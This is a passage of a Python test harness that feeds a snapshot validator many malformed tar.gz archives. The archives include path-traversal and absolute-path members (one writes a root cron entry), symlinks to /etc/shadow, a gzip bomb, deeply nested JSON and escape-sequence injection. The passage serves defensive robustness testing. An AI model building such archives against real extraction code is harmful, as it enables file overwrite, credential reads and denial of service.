def _tar(members: list[tuple[tarfile.TarInfo, bytes | None]], compress: bool = True) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tf:
        for info, data in members:
            if data is not None:
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
            else:
                tf.addfile(info)
    return gzip.compress(raw.getvalue()) if compress else raw.getvalue()


def _member(
    name: str, data: bytes | None = None, type: bytes = tarfile.REGTYPE, link: str = ""
) -> tuple[tarfile.TarInfo, bytes | None]:
    info = tarfile.TarInfo(name)
    info.type = type
    info.linkname = link
    info.mode = 0o644
    return info, data


def _manifest(blobs: dict[str, bytes], commands: list | None = None, **over: object) -> bytes:
    import hashlib

    m: dict[str, object] = {
        "format": "chom-validate-snapshot/1",
        "host": "snap",
        "kind": "ssh",
        "files": {
            k: {"sha256": hashlib.sha256(v).hexdigest(), "size": len(v), "mode": 0o644}
            for k, v in blobs.items()
        },
        "commands": commands or [],
        "problems": [],
    }
    m.update(over)
    return json.dumps(m).encode()


_UNIT = b"[Service]\nExecStart=/usr/bin/app\n"


def _snap(blob_fn: Callable[[], bytes]) -> Callable[[Path], list[str]]:
    def build(d: Path) -> list[str]:
        _write(d / "snap.tar.gz", blob_fn())
        return ["all", "--snapshot", str(d / "snap.tar.gz"), "--format", "json", "-o", str(d / "out.json")]

    return build


def _snap_gzip_bomb() -> bytes:
    raw = io.BytesIO()
    with gzip.GzipFile(fileobj=raw, mode="wb", compresslevel=9) as gz:
        info = tarfile.TarInfo("files/etc/zero")
        info.size = 1024 * MB
        gz.write(info.tobuf())
        chunk = bytes(MB)
        for _ in range(1024):
            gz.write(chunk)
    return raw.getvalue()


_SNAPS: dict[str, Callable[[], bytes]] = {
    "traversal": lambda: _tar(
        [_member("manifest.json", _manifest({})), _member("../../../../tmp/chom-pwned", b"x")]
    ),
    "traversal-files": lambda: _tar(
        [
            _member("manifest.json", _manifest({"../../etc/passwd": b"x"})),
            _member("files/../../etc/passwd", b"x"),
        ]
    ),
    "absolute": lambda: _tar(
        [_member("manifest.json", _manifest({})), _member("/etc/cron.d/evil", b"* * * * * root x\n")]
    ),
    "absolute-manifest-path": lambda: _tar(
        [_member("manifest.json", _manifest({"/etc/passwd": b"x"})), _member("files//etc/passwd", b"x")]
    ),
    "symlink-member": lambda: _tar(
        [
            _member("manifest.json", _manifest({"etc/a.service": _UNIT})),
            _member("files/etc/a.service", None, tarfile.SYMTYPE, "/etc/shadow"),
        ]
    ),
    "hardlink-member": lambda: _tar(
        [
            _member("manifest.json", _manifest({"etc/a.service": _UNIT})),
            _member("files/etc/a.service", None, tarfile.LNKTYPE, "/etc/shadow"),
        ]
    ),
    "device-member": lambda: _tar(
        [_member("manifest.json", _manifest({})), _member("files/dev/zero", None, tarfile.CHRTYPE)]
    ),
    "fifo-member": lambda: _tar(
        [_member("manifest.json", _manifest({})), _member("files/x.service", None, tarfile.FIFOTYPE)]
    ),
    "gzip-bomb": _snap_gzip_bomb,
    "not-gzip": lambda: b"this is not a snapshot\n",
    "plain-tar": lambda: _tar([_member("manifest.json", _manifest({}))], compress=False),
    "truncated": lambda: _tar(
        [
            _member("manifest.json", _manifest({"etc/a.service": _UNIT})),
            _member("files/etc/a.service", _UNIT * 5000),
        ]
    )[:2000],
    "empty": lambda: b"",
    "no-manifest": lambda: _tar([_member("files/etc/a.service", _UNIT)]),
    "manifest-not-json": lambda: _tar([_member("manifest.json", b"{nope")]),
    "manifest-list": lambda: _tar([_member("manifest.json", b"[1, 2]")]),
    "manifest-deep": lambda: _tar([_member("manifest.json", ("[" * DEEP + "]" * DEEP).encode())]),
    "manifest-deep-obj": lambda: _tar(
        [
            _member(
                "manifest.json",
                (
                    '{"format": "chom-validate-snapshot/1", "x": ' + '{"a": ' * DEEP + "1" + "}" * DEEP + "}"
                ).encode(),
            )
        ]
    ),
    "files-list": lambda: _tar([_member("manifest.json", _manifest({}, files=["a"]))]),
    "files-entry-str": lambda: _tar([_member("manifest.json", _manifest({}, files={"a": "x"}))]),
    "mode-str": lambda: _tar(
        [
            _member("manifest.json", _manifest({}, files={"a": {"sha256": "0", "mode": "rwx"}})),
            _member("files/a", b""),
        ]
    ),
    "commands-bad-row": lambda: _tar([_member("manifest.json", _manifest({}, commands=[{"argv": ["x"]}]))]),
    "commands-not-list": lambda: _tar([_member("manifest.json", _manifest({}, commands={"a": 1}))]),
    "command-blob-bad": lambda: _command_snapshot(b"{not json"),
    "command-blob-types": lambda: _command_snapshot(b'{"argv": "hostname", "returncode": "x"}'),
    "problems-bad": lambda: _tar([_member("manifest.json", _manifest({}, problems=[1, {"path": 2}]))]),
    "host-weird": lambda: _tar([_member("manifest.json", _manifest({}, host={"a": [1]}))]),
    "host-newline": lambda: _tar([_member("manifest.json", _manifest({}, host="a\nb\x1b[31m"))]),
    "digest-mismatch": lambda: _tar(
        [
            _member("manifest.json", _manifest({"etc/a.service": _UNIT})),
            _member("files/etc/a.service", b"changed"),
        ]
    ),
    "duplicate-manifest": lambda: _tar(
        [_member("manifest.json", _manifest({})), _member("manifest.json", b"[]")]
    ),
    "wrong-format": lambda: _tar([_member("manifest.json", _manifest({}, format="other/9"))]),
    "many-members": lambda: _tar(
        [_member("manifest.json", _manifest({f"etc/f{i}.conf": b"k=v\n" for i in range(5000)}))]
        + [_member(f"files/etc/f{i}.conf", b"k=v\n") for i in range(5000)]
    ),
    "binary-file": lambda: _tar(
        [
            _member("manifest.json", _manifest({"etc/prometheus/prometheus.yml": _BIN["elf"]})),
            _member("files/etc/prometheus/prometheus.yml", _BIN["elf"]),
        ]
    ),
    "valid": lambda: _tar(
        [
            _member("manifest.json", _manifest({"etc/systemd/system/a.service": _UNIT})),
            _member("files/etc/systemd/system/a.service", _UNIT),
        ]
    ),
}


def _command_snapshot(blob: bytes) -> bytes:
    import hashlib

    row = {
        "file": "commands/0.json",
        "argv": ["hostname"],
        "returncode": 0,
        "missing": False,
        "sha256": hashlib.sha256(blob).hexdigest(),
    }
    return _tar([_member("manifest.json", _manifest({}, commands=[row])), _member("commands/0.json", blob)])


for _k, _fn in _SNAPS.items():
    run(f"snapshot-{_k}", _snap(_fn), names="snap.tar.gz", topic="snapshot")


def _snap_special(kind: str) -> Callable[[Path], list[str]]:
    def build(d: Path) -> list[str]:
        p = d / "snap.tar.gz"
        if kind == "fifo":
            os.mkfifo(p)
        elif kind == "dir":
            p.mkdir()
        return ["all", "--snapshot", str(p), "--format", "json", "-o", str(d / "out.json")]

    return build


for _k in ("fifo", "dir", "missing"):
    run(f"snapshot-{_k}", _snap_special(_k), names="snap.tar.gz", topic="snapshot")
